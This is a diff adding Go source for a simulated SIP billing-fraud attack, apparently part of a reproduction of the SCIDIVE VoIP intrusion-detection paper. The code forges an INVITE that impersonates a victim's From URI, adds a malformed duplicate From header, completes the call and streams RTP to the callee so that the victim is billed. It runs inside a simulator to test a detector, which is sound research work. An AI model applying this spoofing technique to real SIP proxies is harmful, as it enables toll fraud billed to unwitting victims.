@@ -1,0 +1,146 @@
+package attack
+
+import (
+	"fmt"
+	"net/netip"
+	"time"
+
+	"scidive/internal/rtp"
+	"scidive/internal/sdp"
+	"scidive/internal/sip"
+)
+
+// BillingFraud mounts the Section 3.2 synthetic attack. The attacker
+// sends an INVITE through the proxy whose From header impersonates the
+// victim, exploiting the proxy's (period-typical) failure to verify that
+// a request's From URI matches its network source. The proxy bills the
+// call to the victim; the attacker completes the handshake from its own
+// address and exchanges media with the callee without being charged.
+//
+// The crafted INVITE is deliberately, subtly malformed — it carries a
+// duplicate From header, the kind of torture-message trick used against
+// 2004-era proxies — which is the "incorrectly formatted SIP message"
+// event of the paper's three-event detection rule.
+type BillingFraud struct {
+	attacker  *Attacker
+	proxyAddr netip.AddrPort
+	victimURI sip.URI // impersonated caller
+	calleeURI sip.URI
+
+	mediaPort uint16
+	callID    string
+	invite    *sip.Message
+
+	// Established reports whether the fraudulent call completed.
+	Established bool
+	// RTPSent counts media packets the attacker pushed to the callee.
+	RTPSent int
+}
+
+// NewBillingFraud prepares the attack. mediaPort is the attacker-local
+// RTP port used for the fraudulent call's media.
+func NewBillingFraud(a *Attacker, proxyAddr netip.AddrPort, victimURI, calleeURI sip.URI, mediaPort uint16) *BillingFraud {
+	return &BillingFraud{
+		attacker:  a,
+		proxyAddr: proxyAddr,
+		victimURI: victimURI,
+		calleeURI: calleeURI,
+		mediaPort: mediaPort,
+	}
+}
+
+// Launch sends the crafted INVITE and arranges completion of the call.
+// mediaFor controls how long the attacker transmits RTP once established.
+func (b *BillingFraud) Launch(mediaFor time.Duration) error {
+	a := b.attacker
+	b.callID = a.idgen.CallID(a.host.IP().String())
+	contact := sip.Address{URI: sip.URI{User: b.victimURI.User, Host: a.host.IP().String(), Port: a.sipPort}}
+	sess := sdp.NewAudioSession(b.victimURI.User, a.host.IP(), b.mediaPort)
+	invite := sip.NewRequest(sip.RequestSpec{
+		Method:     sip.MethodInvite,
+		RequestURI: b.calleeURI.String(),
+		From:       sip.Address{URI: b.victimURI}.WithTag(a.idgen.Tag()),
+		To:         sip.Address{URI: b.calleeURI},
+		CallID:     b.callID,
+		CSeq:       sip.CSeq{Seq: 1, Method: sip.MethodInvite},
+		Via: sip.Via{Transport: "UDP", SentBy: fmt.Sprintf("%s:%d", a.host.IP(), a.sipPort),
+			Params: map[string]string{"branch": a.idgen.Branch()}},
+		Contact:  &contact,
+		Body:     sess.Marshal(),
+		BodyType: "application/sdp",
+	})
+	// The "carefully crafted" malformation: a second From header.
+	invite.Headers.Add(sip.HdrFrom, sip.Address{URI: b.victimURI}.WithTag("x").String())
+	b.invite = invite
+
+	a.onResponse = func(_ netip.AddrPort, m *sip.Message) {
+		if m.CallID() != b.callID || m.StatusCode != sip.StatusOK {
+			return
+		}
+		cseq, err := m.CSeq()
+		if err != nil || cseq.Method != sip.MethodInvite || b.Established {
+			return
+		}
+		b.complete(m, mediaFor)
+	}
+	return a.Send(a.sipPort, b.proxyAddr, invite.Marshal())
+}
+
+// complete ACKs the 200 and starts pushing media to the callee.
+func (b *BillingFraud) complete(ok200 *sip.Message, mediaFor time.Duration) {
+	a := b.attacker
+	b.Established = true
+	from := ok200.Headers.Get(sip.HdrFrom)
+	to := ok200.Headers.Get(sip.HdrTo)
+	contactURI := b.calleeURI
+	if c, err := ok200.Contact(); err == nil {
+		contactURI = c.URI
+	}
+	ack := &sip.Message{Method: sip.MethodAck, RequestURI: contactURI.String()}
+	ack.Headers.Add(sip.HdrVia, sip.Via{Transport: "UDP",
+		SentBy: fmt.Sprintf("%s:%d", a.host.IP(), a.sipPort),
+		Params: map[string]string{"branch": a.idgen.Branch()}}.String())
+	ack.Headers.Add(sip.HdrFrom, from)
+	ack.Headers.Add(sip.HdrTo, to)
+	ack.Headers.Add(sip.HdrCallID, b.callID)
+	ack.Headers.Add(sip.HdrCSeq, sip.CSeq{Seq: 1, Method: sip.MethodAck}.String())
+	if rr := ok200.Headers.Get(sip.HdrRecordRoute); rr != "" {
+		ack.Headers.Add(sip.HdrRoute, rr)
+		_ = a.Send(a.sipPort, b.proxyAddr, ack.Marshal())
+	} else if ip, err := netip.ParseAddr(contactURI.Host); err == nil {
+		_ = a.Send(a.sipPort, netip.AddrPortFrom(ip, contactURI.EffectivePort()), ack.Marshal())
+	}
+
+	// Media to the callee, billed to the victim.
+	var calleeMedia netip.AddrPort
+	if sess, err := sdp.Parse(ok200.Body); err == nil {
+		if m, ok := sess.MediaEndpoint("audio"); ok {
+			calleeMedia = m
+		}
+	}
+	if !calleeMedia.IsValid() {
+		return
+	}
+	ssrc := a.host.Sim().Rand().Uint32()
+	seq := uint16(a.host.Sim().Rand().Intn(1 << 16))
+	var ts uint32
+	deadline := a.host.Sim().Now() + mediaFor
+	tone := rtp.NewToneGenerator(300, 8000, 8000)
+	a.host.Sim().Every(0, 20*time.Millisecond, func() bool {
+		if a.host.Sim().Now() >= deadline {
+			return false
+		}
+		pkt := rtp.Packet{
+			Header:  rtp.Header{PayloadType: rtp.PayloadTypePCMU, Seq: seq, Timestamp: ts, SSRC: ssrc},
+			Payload: rtp.EncodePCMU(tone.Next(160)),
+		}
+		seq++
+		ts += 160
+		if buf, err := pkt.Marshal(); err == nil {
+			if err := a.Send(b.mediaPort, calleeMedia, buf); err == nil {
+				b.RTPSent++
+			}
+		}
+		return true
+	})
+}
